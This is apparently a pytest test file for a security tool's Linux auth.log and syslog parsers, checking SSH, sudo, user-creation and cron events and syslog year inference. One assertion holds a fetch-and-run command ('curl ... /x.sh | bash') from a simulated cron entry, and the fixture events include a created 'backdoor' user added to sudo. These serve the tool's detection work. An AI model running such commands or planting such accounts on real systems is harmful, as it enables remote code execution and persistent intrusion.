"""auth.log and syslog lines: RFC 3164 with the year inferred, RFC 3339 and RFC 5424."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

from cloudwarden.detect.sources import ParseStats, parse_auth_log, parse_syslog
from cloudwarden.detect.sources.linux import parse_syslog_line

REF = datetime(2024, 6, 1, tzinfo=UTC)


def test_auth_log_actions_and_outcomes(fixtures: Path) -> None:
    stats = ParseStats()
    events = list(parse_auth_log(fixtures / "auth.log", stats, reference=REF))
    got = [(e.action, e.outcome, e.actor, e.source_ip) for e in events]
    assert got == [
        ("ssh.invalid_user", "failure", "admin", "198.51.100.23"),
        ("ssh.login", "failure", "admin", "198.51.100.23"),
        ("ssh.login", "failure", "root", "198.51.100.23"),
        ("ssh.auth_failure", "failure", "root", "198.51.100.23"),
        ("ssh.login", "success", "alice", "203.0.113.10"),
        ("sshd", "unknown", "", ""),
        ("sudo.command", "success", "alice", ""),
        ("sudo.command", "failure", "bob", ""),
        ("su.session", "failure", "bob", ""),
        ("user.create", "success", "", ""),
        ("user.group_add", "success", "", ""),
        ("ssh.login", "success", "bob", "198.51.100.23"),
    ]
    first = events[0]
    assert first.source == "linux.auth" and first.host == "web-1" and first.process == "sshd"
    assert first.time == datetime(2024, 3, 5, 14, 2, 1, tzinfo=UTC)
    assert first.origin.endswith("auth.log:1")
    accepted = events[4]
    assert accepted.get("method") == "publickey" and accepted.get("port") == "51514"
    assert accepted.get("pid") == "820" and "Accepted publickey" in accepted.get("message")
    sudo = events[6]
    assert sudo.command_line == "/usr/bin/vi /etc/ssh/sshd_config"
    assert sudo.targets == ("root",) and sudo.get("pwd") == "/home/alice"
    assert events[9].targets == ("backdoor",)
    assert events[10].targets == ("backdoor", "sudo")
    assert events[-1].time == datetime(2024, 3, 5, 14, 7, 0, 123456, tzinfo=UTC)
    # a line that is not syslog, a line with an unknown month
    assert (stats.records, stats.events, stats.malformed) == (14, 12, 2)
    assert [p.origin.rsplit(":", 1)[1] for p in stats.examples] == ["10", "13"]


def test_syslog_rfc3164_and_5424(fixtures: Path) -> None:
    stats = ParseStats()
    events = list(parse_syslog(fixtures / "syslog", stats, reference=REF))
    cron, systemd, kernel, su, group, userdel, anacron = events
    assert cron.action == "cron.exec" and cron.actor == "root"
    assert cron.command_line == "curl -s http://203.0.113.99/x.sh | bash"
    assert systemd.action == "systemd" and kernel.get("priority") == 13
    assert kernel.process == "kernel" and kernel.get("message").startswith("[12345.678]")
    assert su.source == "linux.syslog" and su.action == "su" and su.host == "web-1.example.com"
    assert su.time == datetime(2024, 3, 5, 14, 0, 4, 3000, tzinfo=UTC)
    assert su.get("msgid") == "ID47" and su.get("structured_data").startswith("[exampleSDID")
    assert group.action == "group.create" and group.targets == ("docker",)
    assert userdel.action == "user.delete" and userdel.targets == ("olduser",)
    # December read in June: still last December, not in the future
    assert anacron.time == datetime(2023, 12, 31, 23, 59, 59, tzinfo=UTC)
    assert (stats.records, stats.events, stats.skipped, stats.malformed) == (9, 7, 1, 1)


def test_year_inferred_across_new_year_and_local_zone() -> None:
    jan = datetime(2025, 1, 2, tzinfo=UTC)
    assert parse_syslog_line("Dec 31 23:00:00 h p: x", jan)["timestamp"].year == 2024
    assert parse_syslog_line("Jan  1 23:00:00 h p: x", jan)["timestamp"].year == 2025
    paris = timezone(timedelta(hours=1))
    line = parse_syslog_line("Jan  1 10:00:00 h p: x", jan, paris)
    assert line["timestamp"] == datetime(2025, 1, 1, 9, 0, tzinfo=UTC)


def test_year_defaults_to_the_file_modification_time(fixtures: Path, tmp_path: Path) -> None:
    import os

    log = tmp_path / "auth.log"
    log.write_bytes((fixtures / "auth.log").read_bytes())
    mtime = datetime(2021, 7, 1, tzinfo=UTC).timestamp()
    os.utime(log, (mtime, mtime))
    first = next(parse_auth_log(log))
    assert first.time.year == 2021
